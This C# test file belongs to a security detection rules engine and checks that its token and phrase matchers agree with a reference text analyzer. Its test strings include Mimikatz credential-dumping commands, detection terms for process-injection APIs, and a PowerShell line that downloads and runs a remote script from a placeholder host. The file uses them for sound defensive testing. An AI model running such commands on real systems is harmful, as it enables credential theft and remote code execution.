using Rules.Runtime.Matching;

namespace Rules.Tests.Kql;

/// <summary>
/// <see cref="TextTerms"/> (substring prefilter, ASCII tokenizer) against the general <see cref="TextAnalysis"/>
/// functions it must agree with, and the ASCII tokenizer against the general one.
/// </summary>
public class TextTermsTests
{
    // Word characters, every ASCII Mid class, separators, and non-ASCII that lowercases near ASCII (Kelvin sign to k,
    // dotted capital I), an accented letter, a combining mark, an ideograph and a katakana.
    private const string Alphabet = "abkAKB01_ :.',;-\\\n\u212A\u0130\u00e9\u0301\u65e5\u30c6";
    private const string AsciiAlphabet = "abkAKB01_ :.',;-\\\n";
    private static readonly string[] Words = { "a", "b", "k", "ab", "ka", "a.b", "a:b", "0,1", "a_b", "_", "", "kb", "\u00e9", "ab01", "a'b" };

    [Fact]
    public void Ascii_tokenizer_cuts_the_same_tokens()
    {
        var random = new Random(3);
        for (var i = 0; i < 20_000; i++)
        {
            var text = RandomText(random, AsciiAlphabet, random.Next(0, 40));
            Assert.Equal(Tokens(text, ascii: false), Tokens(text, ascii: true));
        }

        // Tokens longer than 255 characters are split at 255, on both paths.
        var longText = new string('a', 600) + ".b " + string.Concat(Enumerable.Repeat("1.", 200));
        Assert.Equal(Tokens(longText, ascii: false), Tokens(longText, ascii: true));
    }

    [Fact]
    public void Agrees_with_TextAnalysis_on_random_texts()
    {
        var random = new Random(5);
        for (var i = 0; i < 3_000; i++)
        {
            var words = Enumerable.Range(0, random.Next(1, 5)).Select(_ => Words[random.Next(Words.Length)]).ToArray();
            var terms = new TextTerms(words);
            for (var j = 0; j < 10; j++)
            {
                var alphabet = random.Next(3) == 0 ? Alphabet : AsciiAlphabet;
                var text = RandomText(random, alphabet, random.Next(0, 24));
                var context = $"words [{string.Join(", ", words)}] text '{text}'";
                Assert.True(TextAnalysis.ContainsAnyToken(text, words) == terms.ContainsAny(text), "any: " + context);
                Assert.True(TextAnalysis.ContainsAllTokens(text, words) == terms.ContainsAll(text), "all: " + context);
                Assert.True(TextAnalysis.ContainsPhrase(text, words) == terms.ContainsPhrase(text), "phrase: " + context);
            }
        }
    }

    [Fact]
    public void Ascii_token_comparison_agrees_with_lowercasing_each_character()
    {
        // Lengths on both sides of the vectorised path (8 characters and more), analysed words with and without
        // capitals or non-ASCII characters (neither can equal a lowercased ASCII token).
        var random = new Random(29);
        const string tokenAlphabet = "abzAZ09_.:'";
        const string wordAlphabet = "abzAZ09_.:'\u00e9\u212A";
        for (var i = 0; i < 100_000; i++)
        {
            var token = RandomText(random, tokenAlphabet, random.Next(0, 24));
            var word = random.Next(2) == 0
                ? token.ToLowerInvariant()
                : random.Next(2) == 0 ? new string(token.ToLowerInvariant().Select(c => random.Next(12) == 0 ? wordAlphabet[random.Next(wordAlphabet.Length)] : c).ToArray())
                : RandomText(random, wordAlphabet, token.Length);
            var expected = token.Length == word.Length && token.Select(c => c is >= 'A' and <= 'Z' ? (char)(c | 0x20) : c).SequenceEqual(word);
            Assert.True(expected == TextAnalysis.AsciiTokenEquals(token, word), $"token '{token}' word '{word}'");
        }
    }

    [Fact]
    public void Phrases_agree_with_each_phrase_in_turn_on_random_texts()
    {
        var random = new Random(9);
        for (var i = 0; i < 3_000; i++)
        {
            var phrases = Enumerable.Range(0, random.Next(1, 5))
                .Select(_ => Enumerable.Range(0, random.Next(0, 4)).Select(_ => Words[random.Next(Words.Length)]).ToArray())
                .ToArray();
            var compiled = new TextPhrases(phrases);
            for (var j = 0; j < 10; j++)
            {
                var alphabet = random.Next(3) == 0 ? Alphabet : AsciiAlphabet;
                var text = RandomText(random, alphabet, random.Next(0, 24));
                var expected = phrases.Any(p => TextAnalysis.ContainsPhrase(text, p));
                Assert.True(
                    expected == compiled.ContainsAny(text),
                    $"phrases [{string.Join(" | ", phrases.Select(p => string.Join(" ", p)))}] text '{text}'");
            }
        }
    }

    [Theory]
    [InlineData("PS> Invoke-Mimikatz -DumpCreds", true)]
    [InlineData("invoke x mimikatz; dump", false)]
    [InlineData("sekurlsa::logonpasswords", true)] // "::" is no Mid sequence: two tokens
    [InlineData("DumpCreds now", true)] // a one-word phrase is the word
    [InlineData("Mimikatz Invoke", false)]
    [InlineData("\u212Aerberos::list", true)] // non-ASCII: Kelvin sign lowercases to k
    [InlineData(null, false)]
    public void Any_phrase(string? text, bool expected)
    {
        var phrases = new TextPhrases(new[] { "invoke", "mimikatz" }, new[] { "sekurlsa", "logonpasswords" }, new[] { "kerberos", "list" }, new[] { "dumpcreds" });
        Assert.Equal(expected, phrases.ContainsAny(text));
    }

    [Theory]
    [InlineData("[Kernel32]::VirtualAlloc(0, 4096)", true)]
    [InlineData("# VirtualAllocation is documented", false)] // a substring, not a token: the prefilter passes, tokens decide
    [InlineData("Write-Host 'hello'", false)]
    [InlineData("\u212Aernel32 VIRTUALALLOC", true)] // non-ASCII text: the full analyzer
    [InlineData(null, false)]
    public void Any_word(string? text, bool expected)
    {
        var terms = new TextTerms("virtualalloc", "openprocess");
        Assert.Equal(expected, terms.ContainsAny(text));
    }

    [Fact]
    public void Kelvin_sign_lowercases_to_k_like_the_analyzer()
    {
        // The standard analyzer lowercases U+212A to 'k': the text is non-ASCII, so no ASCII prefilter may reject it.
        Assert.True(new TextTerms("kernel32").ContainsAny("\u212Aernel32"));
        Assert.True(new TextTerms("kernel32").ContainsAll("\u212Aernel32"));
        Assert.True(new TextTerms("kernel32", "x").ContainsPhrase("\u212Aernel32 X"));
        Assert.True(TextAnalysis.ContainsAnyToken("\u212Aernel32", new[] { "kernel32" }));
    }

    [Fact]
    public void No_words_match_nothing()
    {
        var terms = new TextTerms();
        Assert.False(terms.ContainsAny("a"));
        Assert.False(terms.ContainsAll("a"));
        Assert.False(terms.ContainsPhrase("a"));
    }

    [Fact]
    public void Matching_allocates_nothing()
    {
        var any = new TextTerms("iex", "invoke", "downloadstring");
        var phrase = new TextTerms("invoke", "mimikatz");
        var phrases = new TextPhrases(new[] { "invoke", "mimikatz" }, new[] { "iex" });
        string[] texts = { "IEX (New-Object Net.WebClient).DownloadString('http://x/y.ps1'); Invoke-Mimikatz", "Get-Help", "\u00e9t\u00e9 invoke" };
        void Run()
        {
            foreach (var text in texts)
            {
                any.ContainsAny(text);
                any.ContainsAll(text);
                phrase.ContainsPhrase(text);
                phrases.ContainsAny(text);
            }
        }

        Run();
        var before = GC.GetAllocatedBytesForCurrentThread();
        for (var i = 0; i < 100; i++)
        {
            Run();
        }

        Assert.Equal(before, GC.GetAllocatedBytesForCurrentThread());
    }

    private static List<string> Tokens(string text, bool ascii)
    {
        var tokens = new List<string>();
        var position = 0;
        int start, length;
        while (ascii
                   ? TextAnalysis.NextAsciiToken(text, ref position, out start, out length)
                   : TextAnalysis.NextToken(text, ref position, out start, out length))
        {
            tokens.Add(text.Substring(start, length));
        }

        return tokens;
    }

    private static string RandomText(Random random, string alphabet, int length) =>
        new(Enumerable.Range(0, length).Select(_ => alphabet[random.Next(alphabet.Length)]).ToArray());
}
